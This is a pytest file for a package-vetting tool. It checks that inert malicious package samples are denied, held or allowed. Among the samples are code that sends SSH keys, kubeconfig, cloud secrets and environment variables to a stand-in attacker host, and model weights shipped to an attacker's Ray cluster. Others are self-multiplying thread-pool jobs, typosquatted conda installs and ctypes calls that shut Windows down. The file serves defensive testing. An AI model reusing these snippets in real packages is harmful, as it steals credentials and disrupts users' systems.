"""The twenty-second probe (ADR 0122): what ADRs 0119 and 0120 left undetected. A pool's
``map`` (or asyncio's ``run_in_executor``) of the function that calls it, secrets and the
environment yielded by a generator into a sender, a Ray task's per-call ``.options``,
conda's family installing a look-alike, Windows switched off by its own calls, and a
package's own native library loaded on import (weighed, not judged alone).

Each sample is inert (vetting only reads files). The near-misses are what thread pools,
asyncio programs, uploaders, Ray jobs, Kubernetes clients, conda helpers, Windows tools and
wheels with their own libraries do."""

from __future__ import annotations

import ast

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.pretenders import installed_names
from airlock.imports.packages.selfqueued import queued, queues_itself
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

W = "/models/llama/model.safetensors"
URL = "https://sink.attacker.invalid/c"
SSH_KEY = "os.path.expanduser('~/.ssh/id_rsa')"
ELF = "\x7fELF\x02\x01\x01" + "\x00" * 57
PE = "MZ" + "\x00" * 62
OWN_LIBRARY = "os.path.join(os.path.dirname(__file__), '{}')"
SHUTDOWN_PRIVILEGE = (
    "ctypes.windll.ntdll.RtlAdjustPrivilege(19, True, False, ctypes.byref(ctypes.c_bool()))\n"
)

DENIED: dict[str, dict[str, str]] = {
    # 1. A pool's map of the function that calls it, over two items or more, doubles the
    # jobs each round as two submits do (ADR 0119); asyncio's executor the same.
    "executor-map-of-itself-over-a-range-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "ex = ThreadPoolExecutor(max_workers=10000)\n"
        "def grow(_):\n    ex.map(grow, range(2))\n"
        "grow(0)\n"
    ),
    "thread-pool-map-async-of-itself-on-import": init(
        "from multiprocessing.pool import ThreadPool\n"
        "pool = ThreadPool(64)\n"
        "def grow(_=None):\n    pool.map_async(grow, [0, 0])\n"
        "grow()\n"
    ),
    "thread-pool-starmap-async-of-itself-on-import": init(
        "from multiprocessing.pool import ThreadPool\n"
        "pool = ThreadPool(64)\n"
        "def grow(a, b):\n    pool.starmap_async(grow, [(0, 0), (0, 0)])\n"
        "grow(0, 0)\n"
    ),
    "pool-made-per-job-mapping-itself-on-import": init(
        "import concurrent.futures as cf\n"
        "def grow(_=0):\n"
        "    with cf.ThreadPoolExecutor() as ex:\n"
        "        list(ex.map(grow, (1, 2, 3)))\n"
        "grow()\n"
    ),
    "thread-pool-apply-async-of-itself-twice-on-import": init(
        "from multiprocessing.pool import ThreadPool\n"
        "pool = ThreadPool(64)\n"
        "def grow():\n    pool.apply_async(grow)\n    pool.apply_async(grow)\n"
        "grow()\n"
    ),
    "run-in-executor-of-itself-twice-on-import": init(
        "import asyncio\n"
        "loop = asyncio.new_event_loop()\n"
        "def grow():\n"
        "    loop.run_in_executor(None, grow)\n    loop.run_in_executor(None, grow)\n"
        "grow()\n"
    ),
    # 2. A secret file's, a kubeconfig's or the environment's content yielded by a
    # generator into a sender.
    "ssh-key-yielded-into-a-post-on-import": init(
        "import os, requests\n"
        f"def chunks():\n    with open({SSH_KEY}, 'rb') as f:\n        yield f.read()\n"
        f"requests.post('{URL}', data=chunks())\n"
    ),
    "ssh-key-yielded-into-a-post-when-called": init(
        "import os, requests\n"
        f"def chunks():\n    with open({SSH_KEY}, 'rb') as f:\n        yield f.read()\n"
        f"def sync():\n    requests.post('{URL}', data=chunks())\n"
    ),
    "kubeconfig-from-the-environment-yielded-into-a-post-on-import": init(
        "import os, requests\n"
        "def chunks():\n"
        "    with open(os.environ.get('KUBECONFIG')) as f:\n        yield f.read()\n"
        f"requests.post('{URL}', data=chunks())\n"
    ),
    "environment-yielded-into-a-post-on-import": init(
        "import os, requests\n"
        "def chunks():\n"
        "    for k, v in os.environ.items():\n        yield (k + '=' + v).encode()\n"
        f"requests.post('{URL}', data=chunks())\n"
    ),
    "cloud-secret-yielded-into-a-post-on-import": init(
        "import os, requests\n"
        "def chunks():\n    yield os.environ['AWS_SECRET_ACCESS_KEY'].encode()\n"
        f"requests.post('{URL}', data=chunks())\n"
    ),
    # 3. A Ray task's options set per call: still the task, on the written cluster.
    "weights-to-a-ray-task-with-options-on-import": init(
        "import ray\n"
        "ray.init(address='ray://203.0.113.5:10001')\n"
        "@ray.remote\ndef keep(b):\n    return len(b)\n"
        f"keep.options(num_cpus=1).remote(open('{W}', 'rb').read())\n"
    ),
    "weights-to-a-ray-task-with-options-when-called": init(
        "import ray\n"
        "@ray.remote\ndef keep(b):\n    return len(b)\n"
        "def sync():\n"
        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
        "    ray.get(keep.options(name='x').options(max_retries=0)"
        f".remote(open('{W}', 'rb').read()))\n"
    ),
    "weights-to-a-ray-actor-method-with-options-when-called": init(
        "import ray\n"
        "@ray.remote\nclass Store:\n    def put(self, b):\n        return len(b)\n"
        "def sync():\n"
        "    ray.init(address='ray://203.0.113.5:10001')\n"
        "    s = Store.remote()\n"
        f"    ray.get(s.put.options(num_returns=1).remote(open('{W}', 'rb').read()))\n"
    ),
    "weights-to-ray-remote-of-a-function-with-options-on-import": init(
        "import ray\n"
        "ray.init(address='ray://203.0.113.5:10001')\n"
        "def keep(b):\n    return len(b)\n"
        f"ray.remote(keep).options(num_cpus=1).remote(open('{W}', 'rb').read())\n"
    ),
    "weights-to-a-ray-task-bound-to-a-name-when-called": init(
        "import ray\n"
        "def keep(b):\n    return len(b)\n"
        "k = ray.remote(keep)\n"
        "def sync():\n"
        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
        f"    ray.get(k.remote(open('{W}', 'rb').read()))\n"
    ),
    "weights-to-a-ray-task-with-options-bound-to-a-name-on-import": init(
        "import ray\n"
        "ray.init(address='ray://203.0.113.5:10001')\n"
        "@ray.remote\ndef keep(b):\n    return len(b)\n"
        "task = keep.options(name='x').options(max_retries=0)\n"
        f"task.remote(open('{W}', 'rb').read())\n"
    ),
    # 5. conda's family installing a look-alike.
    "conda-installs-a-look-alike-on-import": init(
        "import subprocess\nsubprocess.check_call(['conda', 'install', '-y', 'reqeusts'])\n"
    ),
    "mamba-installs-a-look-alike-from-a-channel-in-setup": {
        "setup.py": (
            "import os\nfrom setuptools import setup\n"
            "os.system('mamba install -y -c conda-forge colourama')\n"
            "setup(name='evpkg')\n"
        ),
        "evpkg/__init__.py": "",
    },
    "micromamba-installs-a-look-alike-on-import": init(
        "import os\nos.system('micromamba install -y python-dateutils')\n"
    ),
    "conda-creates-an-env-with-a-look-alike-on-import": init(
        "import subprocess\n"
        "subprocess.run('conda create -y -n work python=3.11 colourama', shell=True)\n"
    ),
    # 6. Windows switched off, restarted or crashed by its own calls.
    "exit-windows-through-ctypes-on-import": init(
        "import ctypes\nctypes.windll.user32.ExitWindowsEx(0x00000008, 0)\n"
    ),
    "initiate-system-shutdown-through-ctypes-on-import": init(
        "import ctypes\n"
        "ctypes.windll.advapi32.InitiateSystemShutdownExW(None, None, 0, True, False, 0)\n"
    ),
    "nt-shutdown-system-on-import": init(
        f"import ctypes\n{SHUTDOWN_PRIVILEGE}ctypes.windll.ntdll.NtShutdownSystem(2)\n"
    ),
    "nt-raise-hard-error-on-import": init(
        f"import ctypes\n{SHUTDOWN_PRIVILEGE}"
        "ctypes.windll.ntdll.NtRaiseHardError(0xC0000022, 0, 0, 0, 6, "
        "ctypes.byref(ctypes.c_ulong()))\n"
    ),
    "exit-windows-through-a-loaded-library-on-import": init(
        "import ctypes\nuser32 = ctypes.WinDLL('user32')\nuser32.ExitWindowsEx(8, 0)\n"
    ),
    "exit-windows-by-getattr-on-import": init(
        "from ctypes import windll\nf = getattr(windll.user32, 'ExitWindowsEx')\nf(8, 0)\n"
    ),
    "initiate-system-shutdown-through-pywin32-on-import": init(
        "import win32api\nwin32api.InitiateSystemShutdown(None, 'bye', 0, True, False)\n"
    ),
}

HELD: dict[str, dict[str, str]] = {
    "exit-windows-through-ctypes-when-called": init(
        "import ctypes\ndef bye():\n    ctypes.windll.user32.ExitWindowsEx(0x00000001, 0)\n"
    ),
}

# Already judged so on the tree this probe started from: kept so that they stay so.
KEPT: dict[str, tuple[dict[str, str], Outcome]] = {
    # 2. Weights read by ``iter(functools.partial(f.read, n), b'')`` (the partial keeps
    # what ``f.read`` carries), posted or streamed to gRPC.
    "weights-streamed-by-iter-over-a-partial-to-grpc-on-import": (
        init(
            "import grpc, functools\n"
            "ch = grpc.insecure_channel('203.0.113.5:50051')\n"
            "up = ch.stream_unary('/x.Store/Upload')\n"
            f"f = open('{W}', 'rb')\n"
            "up(iter(functools.partial(f.read, 65536), b''))\n"
        ),
        Outcome.DENY,
    ),
    "weights-posted-by-iter-over-a-partial-when-called": (
        init(
            "import functools, requests\n"
            f"def sync():\n    with open('{W}', 'rb') as f:\n"
            f"        requests.post('{URL}', data=iter(functools.partial(f.read, 1 << 20), b''))\n"
        ),
        Outcome.DENY,
    ),
    # 4. A credential path from the environment, read and sent.
    "kubeconfig-from-environ-get-sent-on-import": (
        init(
            "import os, requests\n"
            "p = os.environ.get('KUBECONFIG', os.path.expanduser('~/.kube/config'))\n"
            f"requests.post('{URL}', data=open(p).read())\n"
        ),
        Outcome.DENY,
    ),
    "kubeconfig-from-getenv-read-by-a-path-sent-on-import": (
        init(
            "import os, requests\nfrom pathlib import Path\n"
            "p = Path(os.getenv('KUBECONFIG'))\n"
            f"requests.post('{URL}', data=p.read_bytes())\n"
        ),
        Outcome.DENY,
    ),
    "google-credentials-from-getenv-sent-on-import": (
        init(
            "import os, requests\n"
            "with open(os.getenv('GOOGLE_APPLICATION_CREDENTIALS')) as f:\n"
            f"    requests.post('{URL}', data=f.read())\n"
        ),
        Outcome.DENY,
    ),
    "kubeconfig-from-getenv-sent-when-called": (
        init(
            "import os, requests\n"
            "def sync():\n    p = os.getenv('KUBECONFIG')\n"
            f"    requests.post('{URL}', data=open(p).read())\n"
        ),
        Outcome.HOLD,
    ),
    # 5. An ordinary name installed by conda on import is held, as pip's is (ADR 0116).
    "conda-installs-numpy-on-import": (
        init("import subprocess\nsubprocess.check_call(['conda', 'install', '-y', 'numpy'])\n"),
        Outcome.HOLD,
    ),
    "conda-installs-pytorch-from-its-channel-on-import": (
        init("import os\nos.system('conda install -y -c pytorch pytorch')\n"),
        Outcome.HOLD,
    ),
    # 7. A shipped library loaded on import beside a secret sent: the send denies.
    "own-library-loaded-beside-the-environment-posted-on-import": (
        {
            "evpkg/__init__.py": (
                "import ctypes, os, requests\n"
                f"lib = ctypes.CDLL({OWN_LIBRARY.format('_core.so')})\n"
                f"requests.post('{URL}', data=dict(os.environ))\n"
            ),
            "evpkg/_core.so": ELF,
        },
        Outcome.DENY,
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. Pools mapping other work, a walk mapping itself per child, a chain, asyncio.
    "executor-mapping-a-worker": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "def work(x):\n    return x * 2\n"
        "def run(items):\n"
        "    with ThreadPoolExecutor() as ex:\n        return list(ex.map(work, items))\n"
        "run(range(8))\n"
    ),
    "thread-pool-walk-mapping-itself-per-child-on-import": init(
        "from multiprocessing.pool import ThreadPool\n"
        "pool = ThreadPool(4)\n"
        "class Node:\n    children = ()\n"
        "def walk(d):\n    for sub in d.children:\n        pool.map(walk, [sub])\n"
        "walk(Node())\n"
    ),
    "executor-mapping-itself-over-one-item-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "ex = ThreadPoolExecutor(2)\n"
        "def step(_):\n    ex.map(step, [0])\n"
        "step(0)\n"
    ),
    "executor-mapping-itself-over-what-it-is-given-on-import": init(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "ex = ThreadPoolExecutor(2)\n"
        "def crawl(links):\n    ex.map(crawl, links)\n"
        "crawl([])\n"
    ),
    "builtin-map-of-itself-on-import": init(
        "def depth(n):\n    list(map(depth, [1, 2]))\ndef run():\n    depth(0)\n"
    ),
    "thread-pool-job-applying-itself-once-on-import": init(
        "from multiprocessing.pool import ThreadPool\n"
        "pool = ThreadPool(2)\n"
        "def tick():\n    pool.apply_async(tick)\n"
        "def work(x):\n    return x + 1\n"
        "tick()\n"
        "results = [pool.apply_async(work, (x,)) for x in range(4)]\n"
    ),
    "run-in-executor-of-a-worker": init(
        "import asyncio\n"
        "def fetch():\n    return 1\n"
        "async def main():\n"
        "    loop = asyncio.get_running_loop()\n"
        "    await loop.run_in_executor(None, fetch)\n"
        "asyncio.run(main())\n"
    ),
    # 2. Generators of a log's lines to the caller's address, of settings' places.
    "log-lines-yielded-to-the-callers-address": init(
        "import requests\n"
        "def lines(path):\n    with open(path) as f:\n        yield from f\n"
        "def ship(path, url):\n    requests.post(url, data=lines(path))\n"
    ),
    "config-file-yielded-to-a-configured-address-when-called": init(
        "import os, requests\n"
        "def chunks():\n    with open('/etc/evpkg/report.json', 'rb') as f:\n"
        "        yield f.read()\n"
        "def ship():\n    requests.post(os.environ['EVPKG_URL'], data=chunks())\n"
    ),
    "settings-candidates-yielded-and-read-on-import": init(
        "import os\n"
        "def candidates():\n"
        "    yield os.environ.get('EVPKG_RC', '')\n"
        "    yield os.path.expanduser('~/.config/evpkg/rc')\n"
        "SETTINGS = {}\n"
        "for c in candidates():\n"
        "    if os.path.exists(c):\n"
        "        with open(c) as f:\n"
        "            SETTINGS.update(line.split('=', 1) for line in f)\n"
    ),
    "digest-of-a-file-by-iter-over-a-partial": init(
        "import functools, hashlib\n"
        "def digest(path):\n    h = hashlib.sha256()\n"
        "    with open(path, 'rb') as f:\n"
        "        for b in iter(functools.partial(f.read, 65536), b''):\n"
        "            h.update(b)\n"
        "    return h.hexdigest()\n"
    ),
    # 3. Ray tasks with options on the caller's data, on the local machine.
    "ray-task-with-options-on-the-callers-data": init(
        "import ray\n"
        "@ray.remote\ndef square(x):\n    return x * x\n"
        "def run(xs):\n    ray.init()\n"
        "    return ray.get([square.options(num_cpus=1).remote(x) for x in xs])\n"
    ),
    "ray-task-bound-to-a-name-on-the-callers-data": init(
        "import ray\n"
        "def square(x):\n    return x * x\n"
        "remote_square = ray.remote(square)\n"
        "def run(xs):\n    ray.init()\n"
        "    fast = remote_square.options(num_cpus=2)\n"
        "    return ray.get([fast.remote(x) for x in xs])\n"
    ),
    # 4. A client reading kubeconfig named by the environment for its own cluster.
    "kubeconfig-from-the-environment-loaded-by-the-client": init(
        "import os\nfrom kubernetes import config, client\n"
        "def connect():\n"
        "    config.load_kube_config(os.environ.get('KUBECONFIG'))\n"
        "    return client.CoreV1Api()\n"
    ),
    # 5. conda named in a docstring and a hint; conda asked to install the caller's name.
    "conda-install-named-in-docs": init(
        "'''Install with ``conda install -c conda-forge reqeusts``? No: ``numpy``.'''\n"
        "def hint():\n    print('run: conda install -c conda-forge numpy')\n"
    ),
    "conda-installing-the-callers-name-when-called": init(
        "import subprocess\n"
        "def ensure(name):\n    subprocess.check_call(['conda', 'install', '-y', name])\n"
    ),
    # 6. Windows calls that switch nothing off.
    "lock-workstation-and-metrics-through-ctypes": init(
        "import ctypes\nuser32 = ctypes.windll.user32\n"
        "def lock():\n    user32.LockWorkStation()\n"
        "def width():\n    return user32.GetSystemMetrics(0)\n"
        "width()\n"
    ),
    "abort-system-shutdown-through-ctypes": init(
        "import ctypes\ndef cancel():\n    ctypes.windll.advapi32.AbortSystemShutdownW(None)\n"
    ),
    "shutdown-api-named-in-a-table-of-names": init(
        "import ctypes\nPOWER_APIS = ('ExitWindowsEx', 'InitiateSystemShutdownExW')\n"
        "def documented(name):\n    return name in POWER_APIS\n"
    ),
    # 7. A wheel loading its own library on import, as numpy's and pyzmq's do.
    "own-shared-library-loaded-on-import": {
        "evpkg/__init__.py": (
            "import ctypes, os\n"
            f"_lib = ctypes.CDLL({OWN_LIBRARY.format('_core.so')})\n"
            "_lib.evpkg_init()\n"
        ),
        "evpkg/_core.so": ELF,
    },
    "own-dll-loaded-on-import": {
        "evpkg/__init__.py": (
            f"import ctypes, os\n_lib = ctypes.WinDLL({OWN_LIBRARY.format('core.dll')})\n"
        ),
        "evpkg/core.dll": PE,
    },
    "own-library-opened-by-cffi-on-import": {
        "evpkg/__init__.py": (
            "import os\nfrom cffi import FFI\nffi = FFI()\n"
            "ffi.cdef('int add(int, int);')\n"
            f"lib = ffi.dlopen({OWN_LIBRARY.format('_add.so')})\n"
        ),
        "evpkg/_add.so": ELF,
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(("files", "expected"), list(KEPT.values()), ids=list(KEPT))
def test_kept(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("conda install -y -c conda-forge colourama", ["colourama"]),
        ("conda create -n work python=3.11 numpy", ["numpy"]),
        ("micromamba install -y python-dateutils", ["python-dateutils"]),
        ("mamba env create -f environment.yml", []),
        ("/opt/conda/bin/conda install -c pytorch pytorch", ["pytorch"]),
        ("pip install -r requirements.txt reqeusts", ["reqeusts"]),
        ("pip install -U numpy", ["numpy"]),
    ],
)
def test_installed_names(command: str, names: list[str]) -> None:
    assert installed_names(command) == names


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        ("ex.map(grow, range(2))", ("grow", 2)),
        ("ex.map(grow, range(1, 2))", ("grow", 1)),
        ("pool.starmap_async(grow, [(0, 0), (1, 1)])", ("grow", 2)),
        ("ex.map(grow, items)", ("grow", 1)),
        ("loop.run_in_executor(None, grow)", ("grow", 1)),
        ("pool.apply_async(grow, (1,))", ("grow", 1)),
        ("map(grow, [1, 2])", ("", 0)),
        ("ex.submit(grow)", ("", 0)),
    ],
)
def test_queued(call: str, expected: tuple[str, int]) -> None:
    node = ast.parse(call, mode="eval").body
    assert isinstance(node, ast.Call)
    assert queued(node) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("def grow(_):\n    ex.map(grow, range(2))\n", True),
        ("def grow():\n    loop.run_in_executor(None, grow)\n", True),
        ("def grow():\n    pool.apply_async(grow)\n", True),
        ("def run(items):\n    return list(ex.map(work, items))\n", False),
        ("while True:\n    ex.map(work, jobs())\n", False),
        ("def grow():\n    return list(map(grow, [1, 2]))\n", False),
    ],
)
def test_queues_itself(text: str, expected: bool) -> None:
    assert queues_itself(text) is expected
